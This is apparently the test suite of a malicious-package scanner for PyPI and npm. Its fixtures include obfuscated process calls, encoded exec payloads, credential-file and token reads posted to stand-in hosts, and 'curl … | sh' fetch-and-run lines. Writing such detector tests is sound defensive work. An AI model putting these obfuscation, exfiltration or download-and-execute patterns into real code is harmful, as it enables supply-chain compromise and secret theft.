# ruff: noqa: E501
"""The facts layer and the load-time graph, one construct per test case: each fact source
(name resolution, folding, origins, decoders) and each load-time edge has a package fixture
that must produce the named finding at the named line, or must not.

Fixtures are harmless strings scanned as bytes (URLs under example.invalid); nothing runs.
"""

from __future__ import annotations

import base64
import json
import zlib
from pathlib import Path

import pytest

from package_analysis.analysis import engine, scoring
from package_analysis.analysis.facts import python as pyfacts
from package_analysis.analysis.model import Finding, PackageRef

SHA = "0" * 64
SETUP = "from setuptools import setup\n"


def _b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def _scan(tmp: Path, files: dict[str, str], ecosystem: str = "pypi") -> list[Finding]:
    root = tmp / "tree"
    for rel, body in files.items():
        path = root / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(body, encoding="utf-8")
    package = PackageRef(ecosystem, "demo-widget", "1.0.0", "")  # type: ignore[arg-type]
    return engine.scan_tree(root, ecosystem=ecosystem, package=package, artifact_sha256=SHA)


def _hits(findings: list[Finding]) -> set[tuple[str, str, int | None]]:
    return {(f.rule, f.file.split("/", 1)[-1], f.line) for f in findings}


# ---- Python: what a call resolves to ----
RESOLVED = {
    "import as": "import subprocess as sp\nsp.call(['id'])\n",
    "assignment alias": "import os\no = os\no.popen('id')\n",
    "from import": "from os import system as run\nrun('id')\n",
    "getattr folded": "import os\ngetattr(os, 'sys' + 'tem')('id')\n",
    "vars subscript": "import os\nvars(os)['po' + 'pen']('id')\n",
    "__dict__ subscript": "import os\nos.__dict__['system']('id')\n",
    "importlib folded": "import importlib\nimportlib.import_module('sub' + 'process').call(['id'])\n",
    "__import__ folded": "__import__('o' + 's').system('id')\n",
    "ctypes libc": "import ctypes\nctypes.CDLL(None).system(b'id')\n",
    "globals builtins": "import os\nf = globals()['os']\nf.system('id')\n",
}


@pytest.mark.parametrize("case", sorted(RESOLVED))
def test_process_calls_resolve_through_indirection(tmp_path: Path, case: str) -> None:
    src = RESOLVED[case]
    last = src.rstrip("\n").count("\n") + 1
    found = _hits(_scan(tmp_path, {"demo-1.0/demo/__init__.py": src}))
    assert ("PY-INSTALL-PROCESS", "demo/__init__.py", last) in found, found


def test_exec_reached_through_getattr_of_builtins_is_critical(tmp_path: Path) -> None:
    src = (
        "import base64, builtins\n"
        f"getattr(builtins, 'ex' + 'ec')(base64.b64decode('{_b64('print(1)')}'))\n"
    )
    found = _scan(tmp_path, {"demo-1.0/demo/__init__.py": src})
    assert ("PY-EXEC-DECODED", "demo/__init__.py", 2) in _hits(found)


# ---- Python: folded values and decoders ----
PAYLOAD = "import os\nos.system('echo fixture')\n"
FOLDED = {
    "concat": "'im' + 'port os'",
    "join": "''.join(['imp', 'ort os'])",
    "percent": "'%s %s' % ('import', 'os')",
    "format": "'{} {}'.format('import', 'os')",
    "f-string": "f\"{'import'} os\"",
    "chr list": "''.join(map(chr, [105, 109, 112, 111, 114, 116, 32, 111, 115]))",
    "chr generator": "''.join(chr(c) for c in [105, 109, 112, 111, 114, 116, 32, 111, 115])",
    "reversed slice": "'so tropmi'[::-1]",
    "reversed()": "''.join(reversed('so tropmi'))",
    "split": "' '.join('import|os'.split('|'))",
}


@pytest.mark.parametrize("case", sorted(FOLDED))
def test_strings_fold(case: str) -> None:
    facts = pyfacts.parse(f"X = {FOLDED[case]}\n")
    assert facts is not None
    assert facts.value(facts.bindings["X"][-1]).text() == "import os"


DECODERS = {
    "base64": f"base64.b64decode('{_b64(PAYLOAD)}')",
    "base32": f"base64.b32decode('{base64.b32encode(PAYLOAD.encode()).decode()}')",
    "base85": f"base64.b85decode({base64.b85encode(PAYLOAD.encode())!r})",
    "hex": f"binascii.unhexlify('{PAYLOAD.encode().hex()}')",
    "fromhex": f"bytes.fromhex('{PAYLOAD.encode().hex()}')",
    "zlib": f"zlib.decompress(base64.b64decode('{base64.b64encode(zlib.compress(PAYLOAD.encode())).decode()}'))",
    "rot13 folded codec": "codecs.decode('vzcbeg bf\\nbf.flfgrz(\\'rpub svkgher\\')\\n', 'rot' + '_13')",
    "xor": "bytes(b ^ 7 for b in " + repr(bytes(c ^ 7 for c in PAYLOAD.encode())) + ")",
}


@pytest.mark.parametrize("case", sorted(DECODERS))
def test_decoders_run_statically_and_exec_of_them_is_critical(tmp_path: Path, case: str) -> None:
    src = f"import base64, binascii, codecs, zlib\nexec({DECODERS[case]})\n"
    facts = pyfacts.parse(src)
    assert facts is not None
    call = next(c.node for c in facts.calls if facts.qualname(c.node.func) == "exec")
    value = facts.value(call.args[0])
    assert "decoded" in value.origins and value.text() == PAYLOAD
    found = _hits(_scan(tmp_path, {"demo-1.0/demo/__init__.py": src}))
    assert ("PY-EXEC-DECODED", "demo/__init__.py", 2) in found
    # the decoded payload went through the Python pass again: its process call is found
    assert ("PY-INSTALL-PROCESS", "demo/__init__.py", 2) in found, found


ORIGINS = {
    "host identity": ("import socket\nh = socket.gethostname()\n", "host identity"),
    "environment": ("import os\nh = dict(os.environ)\n", "environment"),
    "secret variable": ("import os\nh = os.environ.get('NPM_TOKEN')\n", "environment"),
    "secret file": ("h = open('/root/.ssh/id_rsa').read()\n", "secret file"),
    "fetched": (
        "import urllib.request\nh = urllib.request.urlopen('https://example.invalid').read()\n",
        "fetched",
    ),
    "whoami output": ("import os\nh = os.popen('whoami').read()\n", "host identity"),
    "code object from bytes": (
        "import types\nh = types.CodeType(0, 0, 0, 0, 0, 64, b'd\\x00S\\x00', (), (), (), 'x', 'x', 1, b'')\n",
        "bytecode",
    ),
}


def test_a_code_object_rebuilt_from_its_own_bytes_is_not_hidden_code() -> None:
    src = "from types import CodeType\nc = compile('raise E', 'tpl', 'exec')\nh = CodeType(c.co_argcount, c.co_code, c.co_consts)\n"
    facts = pyfacts.parse(src)
    assert facts is not None
    assert "bytecode" not in facts.value(facts.bindings["h"][-1]).origins


@pytest.mark.parametrize("case", sorted(ORIGINS))
def test_values_carry_their_origin(case: str) -> None:
    src, origin = ORIGINS[case]
    facts = pyfacts.parse(src)
    assert facts is not None
    assert origin in facts.value(facts.bindings["h"][-1]).origins


def test_source_to_sink_across_a_local_call_has_a_chain(tmp_path: Path) -> None:
    src = (
        "import socket, requests\n"
        "def send(data):\n"
        "    requests.post('https://collector.example.invalid/x', data=data)\n"
        "send(socket.gethostname())\n"
    )
    findings = _scan(tmp_path, {"demo-1.0/setup.py": SETUP + src})
    hit = next(f for f in findings if f.rule == "PY-RECON-EXFIL")
    assert hit.line == 4 and hit.reachability == "install"
    assert [s.role for s in hit.chain] == ["source", "sink"]


def test_named_environment_variable_is_not_a_source() -> None:
    facts = pyfacts.parse("import os\nh = os.environ.get('HOME')\n")
    assert facts is not None and not facts.value(facts.bindings["h"][-1]).origins


# ---- Python: load-time edges ----
LOAD_TIME = {
    "called at top level": ("def f():\n    os.system('id')\nf()\n", 3),
    "decorator calls it": ("@(lambda f: f())\ndef f():\n    os.system('id')\n", 4),
    "local decorator calls its argument": (
        "def run(fn):\n    fn()\n    return fn\n@run\ndef f():\n    os.system('id')\n",
        7,
    ),
    "atexit decorator": ("import atexit\n@atexit.register\ndef f():\n    os.system('id')\n", 5),
    "thread target": (
        "import threading\ndef f():\n    os.system('id')\nthreading.Thread(target=f).start()\n",
        4,
    ),
    "atexit callback": ("import atexit\ndef f():\n    os.system('id')\natexit.register(f)\n", 4),
    "signal callback": ("import signal\ndef f(*a):\n    os.system('id')\nsignal.signal(2, f)\n", 4),
    "class body": ("class C:\n    os.system('id')\n", 3),
    "instantiated class": ("class C:\n    def __init__(self):\n        os.system('id')\nC()\n", 4),
    "instance called": ("class C:\n    def __call__(self):\n        os.system('id')\nC()()\n", 4),
    "instance bound then called": (
        "class C:\n    def __call__(self):\n        os.system('id')\nc = C()\nc()\n",
        4,
    ),
    "instance as decorator": (
        "class C:\n    def __call__(self, fn):\n        os.system('id')\n@C()\ndef f():\n    pass\n",
        4,
    ),
    "metaclass": (
        "class M(type):\n    def __new__(m, *a):\n        os.system('id')\n"
        "        return type.__new__(m, *a)\nclass C(metaclass=M):\n    pass\n",
        4,
    ),
    "__init_subclass__": (
        "class B:\n    def __init_subclass__(cls):\n        os.system('id')\nclass C(B):\n    pass\n",
        4,
    ),
}


@pytest.mark.parametrize("case", sorted(LOAD_TIME))
def test_load_time_edges_within_a_module(tmp_path: Path, case: str) -> None:
    body, line = LOAD_TIME[case]
    found = _hits(_scan(tmp_path, {"demo-1.0/demo/__init__.py": "import os\n" + body}))
    assert ("PY-INSTALL-PROCESS", "demo/__init__.py", line) in found, found


def test_uncalled_function_is_runtime(tmp_path: Path) -> None:
    found = _hits(
        _scan(tmp_path, {"demo-1.0/demo/__init__.py": "import os\ndef f():\n    os.system('id')\n"})
    )
    assert not any(rule == "PY-INSTALL-PROCESS" for rule, _, _ in found)


def test_a_decorator_returning_a_wrapper_does_not_run_the_function(tmp_path: Path) -> None:
    body = (
        "import os\ndef logged(fn):\n    def wrapper(*a):\n        return fn(*a)\n    return wrapper\n"
        "@logged\ndef f():\n    os.system('id')\n"
    )
    found = _hits(_scan(tmp_path, {"demo-1.0/demo/__init__.py": body}))
    assert not any(rule == "PY-INSTALL-PROCESS" for rule, _, _ in found), found


def test_instance_made_at_import_but_not_called_is_runtime(tmp_path: Path) -> None:
    body = "import os\nclass C:\n    def __call__(self):\n        os.system('id')\nc = C()\n"
    found = _hits(_scan(tmp_path, {"demo-1.0/demo/__init__.py": body}))
    assert not any(rule == "PY-INSTALL-PROCESS" for rule, _, _ in found), found


def test_an_example_calling_an_installed_function_does_not_make_it_load_time(
    tmp_path: Path,
) -> None:
    files = {
        "demo-1.0/demo/__init__.py": "",
        "demo-1.0/demo/serving.py": "import os\ndef serve(url):\n    os.system('id')\n",
        "demo-1.0/examples/app.py": "from demo.serving import serve\nserve('https://example.invalid/')\n",
    }
    found = {(f.rule, f.file.split("/", 1)[1]) for f in _scan(tmp_path, files)}
    assert ("PY-INSTALL-PROCESS", "demo/serving.py") not in found, found
    # installed code calling it at import still does
    files["demo-1.0/demo/__init__.py"] = (
        "from .serving import serve\nserve('https://example.invalid/')\n"
    )
    found = {(f.rule, f.file.split("/", 1)[1]) for f in _scan(tmp_path / "b", files)}
    assert ("PY-INSTALL-PROCESS", "demo/serving.py") in found, found


def test_sibling_module_function_called_at_import(tmp_path: Path) -> None:
    files = {
        "demo-1.0/demo/__init__.py": "from ._boot import start\nstart()\n",
        "demo-1.0/demo/_boot.py": "import os\ndef start():\n    os.system('id')\n",
    }
    found = _hits(_scan(tmp_path, files))
    assert ("PY-INSTALL-PROCESS", "demo/_boot.py", 3) in found, found


def test_module_imported_by_setup_py_runs_at_install(tmp_path: Path) -> None:
    files = {
        "demo-1.0/setup.py": SETUP + "from build_helpers import prepare\nprepare()\nsetup()\n",
        "demo-1.0/build_helpers.py": "import os\ndef prepare():\n    os.system('id')\n",
    }
    findings = _scan(tmp_path, files)
    hit = next(f for f in findings if f.rule == "PY-INSTALL-PROCESS" and "build_helpers" in f.file)
    assert (hit.line, hit.reachability) == (3, "install")


def test_module_imported_by_setup_py_runs_only_what_setup_py_calls(tmp_path: Path) -> None:
    helper = "import os\nVERSION = '1.0'\ndef publish():\n    os.system('id')\nos.getcwd()\n"
    files = {
        "demo-1.0/setup.py": SETUP + "from build_helpers import VERSION\nsetup(version=VERSION)\n",
        "demo-1.0/build_helpers.py": helper,
    }
    found = {(f.rule, f.line, f.reachability) for f in _scan(tmp_path, files)}
    assert not any(rule == "PY-INSTALL-PROCESS" for rule, _, _ in found), found
    # its top level still runs at install
    files["demo-1.0/build_helpers.py"] = helper + "os.system('id')\n"
    found = {(f.rule, f.line, f.reachability) for f in _scan(tmp_path / "b", files)}
    assert ("PY-INSTALL-PROCESS", 6, "install") in found, found


def test_a_script_setup_py_names_runs_at_install(tmp_path: Path) -> None:
    run = "here = os.path.dirname(__file__)\nsubprocess.call([sys.executable, os.path.join(here, 'tools', 'gen-docs.py')])\n"
    files = {
        "demo-1.0/setup.py": SETUP + "import os, subprocess, sys\n" + run + "setup()\n",
        "demo-1.0/tools/gen-docs.py": "import os\nos.system('id')\n",
        "demo-1.0/build.sh": "curl -fsSL https://example.invalid/x.sh | sh\n",
    }
    # a nested project's own setup.py: "setup.py" in the outer one names itself, not it
    files["demo-1.0/setup.py"] += "print('run setup.py')\n"
    files["demo-1.0/lib-rt/setup.py"] = SETUP + "import os\nos.system('make')\nsetup()\n"
    found = {(f.rule, f.file.split("/", 1)[1], f.reachability) for f in _scan(tmp_path, files)}
    assert ("PY-INSTALL-PROCESS", "tools/gen-docs.py", "install") in found, found
    assert ("CNT-DOWNLOAD-EXEC", "build.sh", "test") in found, found  # not named: tooling
    assert not [x for x in found if x[1] == "lib-rt/setup.py" and x[2] == "install"], found


def test_in_tree_backend_and_installation_entry_point_run_at_install(tmp_path: Path) -> None:
    files = {
        "demo-1.0/pyproject.toml": '[build-system]\nrequires = []\nbuild-backend = "backend"\n'
        'backend-path = ["_build"]\n',
        "demo-1.0/_build/backend.py": "import os\nos.system('id')\n",
        "demo-1.0/demo.egg-info/entry_points.txt": "[setuptools.installation]\n"
        "eggsecutable = demo.boot:main\n",
        "demo-1.0/demo/boot.py": "import os\ndef main():\n    os.system('id')\n",
    }
    findings = {
        (f.file.split("/", 1)[-1], f.line, f.reachability)
        for f in _scan(tmp_path, files)
        if f.rule == "PY-INSTALL-PROCESS"
    }
    assert ("_build/backend.py", 2, "install") in findings
    assert ("demo/boot.py", 3, "install") in findings


GUARDS = {
    "sys.argv publish": "if sys.argv[-1] == 'publish':\n    os.system('twine upload dist/*')\n",
    "command word in argv": "if 'release' in sys.argv:\n    os.system('git tag v1')\n",
    "custom env flag": "if os.environ.get('DEMO_RELEASE'):\n    os.system('git tag v1')\n",
    "main guard": "if __name__ == '__main__':\n    os.system('make docs')\n",
}


@pytest.mark.parametrize("case", sorted(GUARDS))
def test_guards_no_installer_meets_are_not_install_time(tmp_path: Path, case: str) -> None:
    setup = SETUP + "import os, sys\n" + GUARDS[case] + "setup()\n"
    found = _hits(_scan(tmp_path, {"demo-1.0/setup.py": setup}))
    assert not any(rule == "PY-INSTALL-PROCESS" for rule, _, _ in found), found


def test_a_guard_on_an_installer_command_is_still_install_time(tmp_path: Path) -> None:
    setup = SETUP + "import os, sys\nif 'install' in sys.argv:\n    os.system('id')\nsetup()\n"
    found = _hits(_scan(tmp_path, {"demo-1.0/setup.py": setup}))
    assert ("PY-INSTALL-PROCESS", "setup.py", 4) in found


def test_cmdclass_only_counts_for_commands_pip_runs(tmp_path: Path) -> None:
    head = SETUP + "import subprocess\nfrom setuptools import Command\n"
    cls = "class Hook(Command):\n    def run(self):\n        subprocess.call(['id'])\n"
    test_only = head + cls + "setup(cmdclass={'test': Hook})\n"
    install = head + cls + "setup(cmdclass={'build_py': Hook})\n"
    assert not any(
        f.rule in {"PY-INSTALL-PROCESS", "PY-INSTALL-HOOK-EXEC"}
        for f in _scan(tmp_path / "a", {"demo-1.0/setup.py": test_only})
    )
    found = _hits(_scan(tmp_path / "b", {"demo-1.0/setup.py": install}))
    assert ("PY-INSTALL-HOOK-EXEC", "setup.py", 6) in found, found


SETUP_PROCESSES = {
    # a compiler's `-E` preprocesses: no inline code (medium, not PowerShell's `-e`)
    "compiler probe": ("subprocess.run([*cc, '-dM', '-E', '-x', 'c', os.devnull])", "medium"),
    "own interpreter on a script": ("subprocess.run([sys.executable, 'tools/readme.py'])", "low"),
    "own interpreter as a module": ("subprocess.run([sys.executable, '-m', 'demo_gen'])", "medium"),
    "own interpreter, inline code": ("subprocess.run([sys.executable, '-c', 'print(1)'])", "high"),
    "node inline code": ("subprocess.run(['node', '-e', 'console.log(1)'])", "high"),
    "cmd /C": ("subprocess.run(['cmd', '/C', 'dir'])", "high"),
    # build-environment questions: a fixed program asked a fixed question
    "SDK path probe": ("subprocess.check_output(['xcrun', '--show-sdk-path', '--sdk', cc])", "low"),
    "brew prefix probe": ("subprocess.check_output(['brew', '--prefix'])", "low"),
    "brew install": ("subprocess.check_output(['brew', 'install', 'libfoo'])", "medium"),
    "git describe probe": ("subprocess.check_output(['git', 'describe', '--tags'])", "low"),
    "git clone": (
        "subprocess.check_output(['git', 'clone', 'https://example.invalid/r'])",
        "medium",
    ),
    "config tool probe": ("subprocess.check_output(['pg_config', '--includedir'])", "low"),
    "compiler version probe": ("subprocess.check_output(['cc', '--version'])", "low"),
    "compiler on a file": ("subprocess.check_output(['cc', '-o', 'x', 'x.c'])", "medium"),
}


@pytest.mark.parametrize("case", sorted(SETUP_PROCESSES))
def test_setup_py_process_severity_follows_what_it_runs(tmp_path: Path, case: str) -> None:
    call, severity = SETUP_PROCESSES[case]
    setup = SETUP + f"import os, subprocess, sys\ncc = ['cc']\n{call}\nsetup()\n"
    hits = [
        f for f in _scan(tmp_path, {"demo-1.0/setup.py": setup}) if f.rule == "PY-INSTALL-PROCESS"
    ]
    assert [(f.line, f.severity) for f in hits] == [(4, severity)]


def test_an_install_command_asking_the_build_environment_is_low(tmp_path: Path) -> None:
    head = SETUP + "import subprocess\nfrom setuptools.command.build_ext import build_ext\n"
    cls = "class Ext(build_ext):\n    def run(self):\n        subprocess.check_output(CMD)\n"
    tail = "setup(cmdclass={'build_ext': Ext})\n"
    for cmd, severity in (("['brew', '--prefix']", "low"), ("['curl', 'x']", "high")):
        setup = head + cls.replace("CMD", cmd) + tail
        findings = _scan(tmp_path / severity, {"demo-1.0/setup.py": setup})
        hits = [f.severity for f in findings if f.rule == "PY-INSTALL-HOOK-EXEC"]
        assert hits == [severity], (cmd, hits)


def test_sdist_tooling_is_not_import_time(tmp_path: Path) -> None:
    files = {
        f"demo-1.0/{d}/x.py": "import os\nos.system('id')\n"
        for d in ("other", ".evergreen", "action", "extern/lib/tools")
    }
    files["demo-1.0/runtests.py"] = "import os\nos.system('id')\n"
    for d in ("vendored-tool/tool/manual tests/1 bundle", "vendored-tool/tool/test cases/2 gen"):
        files[f"demo-1.0/{d}/x.py"] = "import os\nos.system('id')\n"
    files["demo-1.0/vendored-buildsys/ci/image/install.sh"] = (
        "curl https://example.invalid/i | sh\n"
    )
    files["demo-1.0/demo/src/simd-sort/run-bench.py"] = "import os\nos.system('id')\n"
    files["demo-1.0/crates/demo_core/Cargo.toml"] = "[package]\nname = 'demo_core'\n"
    files["demo-1.0/crates/demo_core/generate.py"] = "import os\nos.system('id')\n"
    files["demo-1.0/vendored-buildsys/pyproject.toml"] = "[project]\nname = 'buildsys'\n"
    files["demo-1.0/vendored-buildsys/release/make_dist.py"] = "import os\nos.system('id')\n"
    # task runners and shell scripts of the repository: a maintainer's `curl … | sh`
    fetch_run = "curl -fsSL https://example.invalid/install.sh | sh\n"
    files["demo-1.0/Makefile"] = "fmt:\n\t" + fetch_run
    files["demo-1.0/build-docs.sh"] = "#!/bin/sh\n" + fetch_run
    files["demo-1.0/PKG-INFO"] = "Metadata-Version: 2.1\nName: demo-widget\nVersion: 1.0.0\n"
    findings = _scan(tmp_path, files)
    assert not [f for f in findings if f.reachability in {"import", "install", "runtime"}]
    assert {f.file.split("/", 1)[1] for f in findings if f.rule == "CNT-DOWNLOAD-EXEC"} == {
        "Makefile",
        "build-docs.sh",
        "vendored-buildsys/ci/image/install.sh",
    }
    assert scoring.verdict(findings)[0] == "clean"
    # the same code inside the package is import time
    files = {"demo-1.0/demo/x.py": "import os\nos.system('id')\n"}
    assert ("PY-INSTALL-PROCESS", "demo/x.py", 2) in _hits(_scan(tmp_path / "pkg", files))


# ---- JavaScript ----
JS_RESOLVED = {
    "folded require": "require('child' + '_process').exec('id');\n",
    "require of a constant": "const m = 'child_process';\nrequire(m).exec('id');\n",
    "ES import": "import { exec } from 'child_process';\nexec('id');\n",
    "ES namespace import": "import * as cp from 'node:child_process';\ncp.execSync('id');\n",
    "destructured require": "const { spawn } = require('child_process');\nspawn('id');\n",
}


@pytest.mark.parametrize("case", sorted(JS_RESOLVED))
def test_js_process_calls_resolve(tmp_path: Path, case: str) -> None:
    src = JS_RESOLVED[case]
    files = {
        "package/package.json": json.dumps(
            {"name": "demo-widget", "version": "1.0.0", "main": "index.js"}
        ),
        "package/index.js": src,
    }
    line = src.rstrip("\n").count("\n") + 1
    assert ("JS-CHILD-PROCESS", "index.js", line) in _hits(_scan(tmp_path, files, "npm"))


JS_EVAL = {
    "globalThis subscript": "globalThis['ev' + 'al'](process.argv[2]);\n",
    "constructor.constructor": "[].constructor.constructor(process.argv[2])();\n",
    "module._compile": "module.constructor.prototype._compile(process.argv[2], 'x.js');\n",
}


@pytest.mark.parametrize("case", sorted(JS_EVAL))
def test_js_eval_reached_through_indirection(tmp_path: Path, case: str) -> None:
    files = {
        "package/package.json": json.dumps({"name": "demo-widget", "version": "1.0.0"}),
        "package/index.js": JS_EVAL[case],
    }
    assert ("JS-EVAL-DYNAMIC", "index.js", 1) in _hits(_scan(tmp_path, files, "npm"))


def test_js_folded_eval_is_scanned_as_a_payload(tmp_path: Path) -> None:
    code = "require('child_process').exec('echo fixture')"
    src = "eval(atob('" + _b64(code) + "'));\n"
    files = {
        "package/package.json": json.dumps({"name": "demo-widget", "version": "1.0.0"}),
        "package/index.js": src,
    }
    found = _hits(_scan(tmp_path, files, "npm"))
    assert ("JS-EVAL-DECODED", "index.js", 1) in found
    assert ("JS-CHILD-PROCESS", "index.js", 1) in found


NPM_GRAPH = {
    "node x.js": ({"postinstall": "node scripts/setup.js"}, "scripts/setup.js", {}),
    "node .": ({"install": "node ."}, "index.js", {}),
    "node -e require": ({"postinstall": "node -e \"require('./lib/post')\""}, "lib/post.js", {}),
    "npm run X": ({"postinstall": "npm run build", "build": "node tools/b.js"}, "tools/b.js", {}),
    "config variable": (
        {"postinstall": "node $npm_package_config_entry"},
        "lib/c.js",
        {"config": {"entry": "lib/c.js"}},
    ),
    "required from a hook script": ({"postinstall": "node a.js"}, "lib/deep.js", {}),
}


@pytest.mark.parametrize("case", sorted(NPM_GRAPH))
def test_npm_install_graph(tmp_path: Path, case: str) -> None:
    scripts, target, extra = NPM_GRAPH[case]
    manifest = {"name": "demo-widget", "version": "1.0.0", "scripts": scripts, **extra}
    files = {
        "package/package.json": json.dumps(manifest),
        f"package/{target}": "require('child_process').exec('id');\n",
        "package/a.js": "require('./lib/deep');\n",
    }
    findings = _scan(tmp_path, files, "npm")
    hits = {(f.file, f.reachability) for f in findings if f.rule == "JS-CHILD-PROCESS"}
    assert (f"package/{target}", "install") in hits, hits


def test_npm_entry_graph_and_binding_gyp(tmp_path: Path) -> None:
    files = {
        "package/package.json": json.dumps(
            {
                "name": "demo-widget",
                "version": "1.0.0",
                "exports": {".": "./lib/main.js"},
                "bin": {"demo": "bin/cli.js"},
            }
        ),
        "package/lib/main.js": "require('./util');\n",
        "package/lib/util.js": "require('child_process').exec('id');\n",
        "package/bin/cli.js": "require('child_process').execSync('id');\n",
        "package/binding.gyp": '{"targets": [{"target_name": "x", "sources": ["<!(node gyp/gen.js)"]}]}',
        "package/gyp/gen.js": "require('child_process').exec('id');\n",
    }
    hits = {
        (f.file, f.reachability)
        for f in _scan(tmp_path, files, "npm")
        if f.rule == "JS-CHILD-PROCESS"
    }
    assert {
        ("package/lib/util.js", "import"),
        ("package/bin/cli.js", "import"),
        ("package/gyp/gen.js", "install"),
    } <= hits


def test_local_require_in_node_e_is_not_a_shell_finding(tmp_path: Path) -> None:
    manifest = {
        "name": "demo-widget",
        "version": "1.0.0",
        "scripts": {"postinstall": "node -e \"try{require('./postinstall')}catch(e){}\""},
    }
    files = {
        "package/package.json": json.dumps(manifest),
        "package/postinstall.js": "console.log(1);\n",
    }
    rules = {f.rule for f in _scan(tmp_path, files, "npm")}
    assert "NPM-INSTALL-SCRIPT" in rules and "NPM-INSTALL-SCRIPT-SHELL" not in rules


def test_webpack_eval_of_a_string_literal_is_not_decoded(tmp_path: Path) -> None:
    files = {
        "package/package.json": json.dumps({"name": "demo-widget", "version": "1.0.0"}),
        "package/dist/bundle.js": "eval(\"var x = atob(y); Buffer.from(z, 'base64').toString()\");\n",
    }
    assert "JS-EVAL-DECODED" not in {f.rule for f in _scan(tmp_path, files, "npm")}


def test_tooling_imported_by_installed_code_is_not_tooling(tmp_path: Path) -> None:
    files = {
        "demo-1.0/PKG-INFO": "Metadata-Version: 2.1\nName: demo-widget\nVersion: 1.0.0\n",
        "demo-1.0/demo/__init__.py": "from .benchmarks import warm\n",
        "demo-1.0/demo/benchmarks/warm.py": "import os\nos.system('id')\n",
        "demo-1.0/demo/benchmarks/__init__.py": "",
    }
    found = _hits(_scan(tmp_path, files))
    assert ("PY-INSTALL-PROCESS", "demo/benchmarks/warm.py", 2) in found, found


def test_tool_tables_and_listings_weigh_as_tooling_and_docs(tmp_path: Path) -> None:
    files = {
        "demo-1.0/PKG-INFO": "Metadata-Version: 2.1\nName: demo-widget\nVersion: 1.0.0\n",
        "demo-1.0/pyproject.toml": '[project]\nname = "demo-widget"\n\n[tool.cibuildwheel]\n'
        'before-all = "curl -s https://example.invalid/i.sh | sh"\n',
    }
    hits = [f for f in _scan(tmp_path, files) if f.rule == "CNT-DOWNLOAD-EXEC"]
    assert hits and all(f.reachability == "test" for f in hits)


@pytest.mark.parametrize(
    ("expr", "path"),
    [
        ("runpy.run_path(os.path.join(os.path.dirname(__file__), 'data', 'x.dat'))", "data/x.dat"),
        ("exec(open(os.path.join(os.path.dirname(os.path.abspath(__file__)), 'c.txt')).read())", "c.txt"),
        ("exec(Path(__file__).with_name('x.bin').read_text())", "x.bin"),
        ("exec((Path(__file__).resolve().parent.parent / 'a' / 'b.png').read_bytes())", "../a/b.png"),
        ("exec(compile(open(os.path.join(os.path.dirname(__file__), 'z'), 'rb').read(), 'z', 'exec'))", "z"),
        ("importlib.machinery.SourceFileLoader('m', os.path.join(os.path.dirname(__file__), 'k.cfg'))", "k.cfg"),
        ("exec(open('/etc/hosts').read())", None),
        ("exec(open(os.path.join(os.getcwd(), 'x.txt')).read())", None),
        ("print(open(os.path.join(os.path.dirname(__file__), 'x.txt')).read())", None),
    ],
)  # fmt: skip
def test_a_package_file_run_as_code_is_named(expr: str, path: str | None) -> None:
    from package_analysis.analysis.facts import pybundle

    src = f"import os, runpy, importlib.machinery\nfrom pathlib import Path\nx = {expr}\n"
    facts = pyfacts.parse(src)
    assert facts is not None
    found = {pybundle.run_file(facts, c.node) for c in facts.calls} - {None}
    assert found == ({path} if path else set())


def test_data_put_into_a_container_flows_with_it_but_a_file_name_does_not() -> None:
    src = (
        "import base64, configparser, subprocess, tempfile\n"
        "p = configparser.ConfigParser()\n"
        "p.read('/home/u/.aws/credentials')\n"
        "rows = []\n"
        "row = {}\n"
        "row['k'] = p.get('default', 'aws_secret_access_key')\n"
        "rows.append(row)\n"
        "tmp = tempfile.NamedTemporaryFile()\n"
        "tmp.write(base64.b64decode('aGVsbG8gd29ybGQgaGVsbG8gd29ybGQ='))\n"
        "name = tmp.name\n"
        "sent = rows\n"
    )
    facts = pyfacts.parse(src)
    assert facts is not None
    assert "secret file" in facts.value(facts.bindings["sent"][-1]).origins
    assert not facts.value(facts.bindings["name"][-1]).tainted()


def test_key_material_posted_with_the_url_as_a_keyword_is_reported(tmp_path: Path) -> None:
    src = (
        "import requests\n\n"
        "def sign(private_key):\n"
        "    requests.post(url='https://collector.example.invalid/k', data=[private_key])\n"
    )
    findings = _scan(tmp_path, {"demo/wallet.py": src})
    assert ("PY-KEY-EXFIL", "wallet.py", 4) in _hits(findings)


def test_messages_raised_printed_or_logged_are_prose_and_values_are_not() -> None:
    src = (
        "import logging, os\n"  # 1
        "def need(tool):\n"  # 2
        "    if tool:\n"  # 3
        "        raise RuntimeError(\n"  # 4
        "            'install it: curl https://x.example.invalid/i.sh | sh')\n"  # 5
        "    try:\n"  # 6
        "        pass\n"  # 7
        "    except OSError:\n"  # 8
        "        print('or: curl https://x.example.invalid/i.sh | sh')\n"  # 9
        "    logging.getLogger().warning('curl https://x.example.invalid/i.sh | sh')\n"  # 10
        "CMD = 'curl https://x.example.invalid/i.sh | sh'\n"  # 11
        "os.system('curl https://x.example.invalid/i.sh | sh')\n"  # 12
        "exc = RuntimeError('curl https://x.example.invalid/i.sh | sh')\n"  # 13
    )
    facts = pyfacts.parse(src, is_setup=False, loadtime_all=False)
    assert facts is not None
    assert {5, 9, 10} <= facts.prose
    assert not {11, 12, 13} & facts.prose
